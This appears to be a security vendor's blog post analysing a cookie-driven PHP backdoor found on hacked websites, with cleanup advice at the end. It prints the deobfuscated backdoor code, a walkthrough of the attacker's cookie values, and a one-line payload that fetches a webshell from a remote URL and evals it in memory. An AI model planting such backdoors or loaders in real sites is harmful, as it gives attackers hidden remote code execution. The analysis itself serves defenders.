Assemble the Cookies

When we investigate compromised websites, it’s not unusual to find malicious files that have been obfuscated through forms of encoding or encryption — however, these are not the only methods that attackers use to obfuscate code.

Obfuscation via Predefined PHP Variables

Here’s an example of obfuscation that doesn’t use encoding or encryption in any way:


Instead, this example splits a PHP predefined variable, $_COOKIE, into segmented strings assigned to variables before concatenating them. It also uses code comments and meaningless variable names to generate confusion and make it more difficult to read the code logically. Finally, the obfuscation technique uses an array which allows the attacker to pass data to the PHP script via HTTP cookies so that arbitrary code can be executed.

This isn’t very easy to see right off the bat, but it becomes easier when we remove the code comments, beautify the code, and split it into two sections:

$x = '_C';
$v = 'OO';
$o = 'KI';
$qv = 'E';
$j  = ${$x . $v . $o . $qv};

This first section of the code has the variables $x, $v, $o, and $qv which are used to contain the segmented strings. The strings are concatenated with the . operator in the $j variable to generate the $_COOKIE PHP predefined variable. This is a crucial part of the malicious code as the attacker will place PHP functions and data into HTTP cookies thatthey will pass to the PHP script in their HTTP request.

Malicious Data in HTTP Requests

Here’s how attackers are able to pass along data in their malicious code:

if (isset($j['Q']))
      $oo = $j['Q'] . $j['J'];
    $tj = $j['St'] . $j['V'] . $j['x'];
    $pd = $oo('', $tj($j['U']));

This second section starts off with an if statement, which checks for the existence of the HTTP cookie with the name Q. If the incoming HTTP request does not have this cookie, then the PHP code simply stops there. If the request does contain a Q cookie, the code proceeds to create three new variables ($oo, $tj, and $pd) from segmented data that is provided by the attacker’s HTTP cookies (Q, J, St, V, x, and U), which is then concatenated to form executable code.

Since the attacker is responsible for supplying the variable definitions, this script allows them flexibility in what code they wish to execute. In this particular example, the format and execution of the $pd variable indicates that it will be using the PHP function create_function.The Cookie Assembly Line

Strings stored in cookies Q and J are assembled using create_function and assigned to the $oo variable.

The $tj variable is defined by the data provided by the HTTP cookies St, V, and x. Unlike the $oo variable, the $tj variable shows the flexibility that I previously mentioned as it isn’t limited to just one PHP function (e.g create_function), so the attacker can choose what to use here.

It’s important to keep in mind that whatever function the attacker chooses to use will have to execute on the data provided by the final cookie — U. For this example, I chose to use the function base64_decode which means that the U cookie will need to be base64 encoded.

So far, we’ve identified what values to assign to our cookies (except for the last one, U):The cookie values don’t necessarily have to exactly match the example shown above, but when concatenated they do need to match the name of the intended PHP function. For example, you could have Q be creat and J be e_function — when concatenated, it will still end up being create_function.

Arbitrary PHP Code Submission

This leaves us with just one HTTP cookie left to define — U. The data assigned to this variable is the PHP code created by create_function and executed by the $pd() function. This cookie is what grants the attacker so much flexibility, allowing them to store any PHP code they want executed through the malicious file.

For this scenario, I wanted to demonstrate how an attacker can submit arbitrary code passed in their HTTP request to the malicious file so I chose to use this PHP code:


It’s worth mentioning that HTTP cookies are generally limited to 4,096 characters or less, so copying and pasting an entire PHP webshell’s source code into the U character wouldn’t work. And don’t forget that the U cookie value will need to be base64 encoded so that the $tj variable can successfully run its base64_decode function on U’s value.

When base64 encoded, the U cookie looks like this:


Okay, so we have all the HTTP cookie values defined. When they are concatenated and the variables replaced with the actual concatenated values, the result will (roughly) be the following PHP code:

_COOKIE IF statement

The only thing left for the attacker to do is decide on the arbitrary base64 encoded PHP code that they want to provide in their HTTP request under the cmd parameter.

Base64 Encoded cmd URL Parameter

For this scenario, I chose to use the following code which loads a PHP webshell from a third party URL into the PHP process on the infected website. This is performed without actually writing the PHP webshell to a file on the disk:$a = file_get_contents('https://[redacted]/files/shell.txt');eval('?>'.$a);

When this PHP code is base64 encoded and added as the value for the cmd URL parameter (can be through a GET or POST request), it looks like this:


Loading PHP Webshells from Third-Party Sources

Alright, so now the attacker has defined all of the Q, J, St, V, x, and Ucookies with their proper values along with the arbitrary code that they want executed assigned to the cmd URL parameter. The last thing left to do is to send this very specific request to the malicious file found at the beginning of the post.

When the specially crafted HTTP request is sent to the malicious file, it executes everything provided by the request parameter and its cookies, which in turn loads a PHP webshell from a remote third party source!PHP shell loaded from third-party location

This type of arbitrary code execution can be mitigated by removing the malicious file from the compromised environment.

If you’re a DIY type and think that you might have a website infection, you can follow our free guide on how to clean a hacked website. We’re always happy to help if you need a hand with malware cleanup.

You May Also Like